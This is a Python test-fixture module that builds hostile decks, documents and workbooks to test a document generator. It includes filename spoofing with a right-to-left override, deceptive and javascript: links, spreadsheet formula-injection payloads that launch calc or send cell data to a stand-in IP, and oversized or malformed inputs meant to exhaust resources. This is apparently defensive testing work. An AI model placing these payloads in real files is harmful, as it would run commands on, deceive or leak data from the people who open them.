"""Decks, texts and workbooks that somebody wrote to do harm."""

from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Callable

    from hostilepages import Attack

OVERRIDE: Final = "\u202e"
"""Has the letters after it run from the right: `\u202efdp.exe` is seen as `exe.pdf`."""


def deck(*slides: dict[str, Any], **fields: Any) -> Attack:
    """Make a deck of these slides."""
    spec = {"kind": "SlideSpec", "version": 1, "title": "Deck", "slides": slides}
    return spec | fields, "Pptx", {}


def text(*blocks: dict[str, Any], target: str = "Docx", **fields: Any) -> Attack:
    """Make a text of these blocks."""
    spec = {"kind": "DocSpec", "version": 1, "title": "Text", "content": blocks}
    return spec | fields, target, {}


def book(*sheets: dict[str, Any], **assets: bytes) -> Attack:
    """Make a workbook of these sheets."""
    spec = {"kind": "SpreadsheetSpec", "version": 1, "title": "Book", "sheets": sheets}
    return spec, "Xlsx", assets


def sheet(name: str, columns: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    """Return a sheet whose columns are headed by their names."""
    named = [{"header": each["name"], **each} for each in columns]
    return {"name": name, "title": name, "columns": named} | fields


def column(name: str, **fields: Any) -> dict[str, Any]:
    """Return a column of numbers."""
    return {"name": name, "type": "number"} | fields


def tree(depth: int, of: dict[str, Any]) -> dict[str, Any]:
    """Return a formula of operations as deep as that, all of them on one value."""
    if depth == 0:
        return of
    half = tree(depth - 1, of)
    return {"type": "add", "left": half, "right": half}


def lines(head: str, line: str, count: int) -> bytes:
    """Return CSV of so many lines alike."""
    return (f"{head}\n" + f"{line}\n" * count).encode()


def chart(*values: float | None, **fields: Any) -> Attack:
    """Make a deck of one chart."""
    series = [{"name": "s", "values": values}]
    names = [str(number) for number in range(len(values))]
    drawn = {"type": "bar", "categories": names, "series": series} | fields
    return deck({"type": "chart", "title": "Chart", "chart": drawn, "altText": "x"})


def table(rows: int, columns: int, cell: str) -> dict[str, Any]:
    """Return a table of cells alike."""
    heads = [{"header": "h"}] * columns
    return {"type": "table", "columns": heads, "rows": [[cell] * columns] * rows, "altText": "x"}


def computed_columns() -> Attack:
    """Compute 40 columns, each by 255 operations, in as many rows as a sheet may have."""
    formula = tree(7, {"type": "column", "column": "a"})
    columns = [column("a"), *(column(f"c{number}", formula=formula) for number in range(40))]
    return book(sheet("s", columns, data="rows"), rows=lines("a", "1", 250_000))


def sheets_of_one_file() -> Attack:
    """Fill twenty sheets with the same 250,000 rows."""
    heads = [column(name) for name in "abcdefgh"]
    sheets = [sheet(f"s{number}", heads, data="rows") for number in range(20)]
    return book(*sheets, rows=lines("a,b,c,d,e,f,g,h", "1,1,1,1,1,1,1,1", 250_000))


def largest_file() -> Attack:
    """Fill one sheet with as many cells as it may have."""
    heads = [column(name) for name in "abcdefgh"]
    return book(
        sheet("s", heads, data="rows"),
        rows=lines("a,b,c,d,e,f,g,h", "1,1,1,1,1,1,1,1", 250_000),
    )


def links_without_end() -> Attack:
    """Put more links into a sheet than a spreadsheet program opens."""
    heads = [{"name": "a", "type": "link"}]
    return book(sheet("s", heads, data="rows"), rows=lines("a", "https://example.com/", 100_000))


def full_deck() -> Attack:
    """Make as many slides of as many cells as there may be."""
    heads = [{"header": "h"}] * 10
    rows = [["1"] * 10] * 11
    each = {"type": "table", "title": "Table", "altText": "x"}
    return deck(*[each | {"table": {"columns": heads, "rows": rows}}] * 200)


def texts_like_formulas() -> Attack:
    """Write what a spreadsheet program would run, if it took it for a formula."""
    heads = [{"name": "a", "header": "=1+1"}, {"name": "b"}]
    rows = [
        ["=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0"],
        ["@SUM(1+1)*cmd|'/c calc'!A0", '-2+3+cmd|"/c calc"!A0'],
        ['=HYPERLINK("http://192.0.2.1?"&A1)', "=WEBSERVICE(A1)"],
        ["{=1}", "'=1"],
    ]
    return book(sheet("s", heads, rows=rows))


ATTACKS: Final[dict[str, Callable[[], Attack]]] = {
    "name of a file that turns around": lambda: deck(
        {"type": "title", "title": f"report{OVERRIDE}fdp.exe"}
    ),
    "link that turns around": lambda: text(
        {
            "type": "paragraph",
            "text": [{"text": "bank", "link": f"https://192.0.2.1/{OVERRIDE}moc.knab"}],
        }
    ),
    "link with another's name before it": lambda: text(
        {
            "type": "paragraph",
            "text": [{"text": "bank", "link": "https://bank.example@192.0.2.1/"}],
        }
    ),
    "link of a text that runs a program": lambda: text(
        {"type": "paragraph", "text": [{"text": "x", "link": "javascript:alert(1)"}]}
    ),
    "chart of the largest numbers": lambda: chart(1e15, -1e15, 1e-15, 5e-324, 0.0, -0.0),
    "chart of a number beyond numbers": lambda: chart(1e308, -1e308),
    "word of a slide without end": lambda: deck(
        {"type": "bullets", "title": "t", "bullets": [{"text": "x" * 400}] * 12}
    ),
    "slide of marks upon marks": lambda: deck(
        {"type": "bullets", "title": "t", "bullets": [{"text": "e" + "\u0301" * 399}] * 12}
    ),
    "deck of as many cells as there may be": full_deck,
    "deck of 201 slides": lambda: deck(*[{"type": "title", "title": "t"}] * 201),
    "text of as many cells as there may be": lambda: text(*[table(400, 12, "1")] * 12),
    "pages of as many cells as there may be": lambda: text(
        *[table(400, 12, "1")] * 12, target="Pdf"
    ),
    "pages of as many paragraphs as there may be": lambda: text(
        *[{"type": "paragraph", "text": "words " * 50}] * 2900, target="Pdf"
    ),
    "pages of lists in lists": lambda: text(
        *[
            {
                "type": "list",
                "items": [
                    {"text": "a", "items": [{"text": "b", "items": [{"text": "c"}] * 20}] * 9}
                ]
                * 10,
            }
        ]
        * 8,
        target="Pdf",
    ),
    "text whose link leads nowhere": lambda: text(
        {"type": "paragraph", "text": [{"text": "x", "link": "#nowhere"}]}
    ),
    "texts that look like formulas": texts_like_formulas,
    "sheet with brackets in its name": lambda: book(
        sheet("s", [column("a")], rows=[[1]]) | {"title": "[1]!'"}
    ),
    "sheet called as a program's own": lambda: book(
        sheet("s", [column("a")], rows=[[1]]) | {"title": "History"}
    ),
    "names that are places of cells": lambda: book(
        sheet("r1c1", [column("c"), column("r")], rows=[[1, 1]]), sheet("r", [column("c")])
    ),
    "formula that asks for itself": lambda: book(
        sheet("s", [column("a", formula={"type": "column", "column": "a"})], rows=[[None]])
    ),
    "sheets that ask for each other": lambda: book(
        sheet(
            "one",
            [column("a", formula={"type": "total", "sheet": "two", "column": "a"})],
            rows=[[None]],
        ),
        sheet(
            "two",
            [column("a", formula={"type": "total", "sheet": "one", "column": "a"})],
            rows=[[None]],
        ),
    ),
    "formula deeper than it may be": lambda: book(
        sheet(
            "s",
            [column("a"), column("b", formula=tree(12, {"type": "column", "column": "a"}))],
            rows=[[1]],
        )
    ),
    "formula that divides by nothing": lambda: book(
        sheet(
            "s",
            [
                column("a"),
                column(
                    "b",
                    formula={
                        "type": "divide",
                        "left": {"type": "number", "value": 1},
                        "right": {"type": "column", "column": "a"},
                    },
                ),
            ],
            rows=[[0]] * 500,
        )
    ),
    "columns computed without end": computed_columns,
    "one file in twenty sheets": sheets_of_one_file,
    "sheet of as many cells as it may have": largest_file,
    "more links than a sheet may have": links_without_end,
    "rows of numbers that are none": lambda: book(
        sheet("s", [column("a")], data="rows"), rows=lines("a", "nan", 10)
    ),
    "rows with a quotation mark that never closes": lambda: book(
        sheet("s", [column("a")], data="rows"), rows=b'a\n"' + b"1\n" * 5_000_000
    ),
    "rows of one line of megabytes": lambda: book(
        sheet("s", [column("a")], data="rows"), rows=b"a\n" + b"," * 19_000_000
    ),
    "rows that are a packed file": lambda: book(
        sheet("s", [column("a")], data="rows"), rows=b"PK\x03\x04" + bytes(1000)
    ),
}
"""Each attack by its name."""
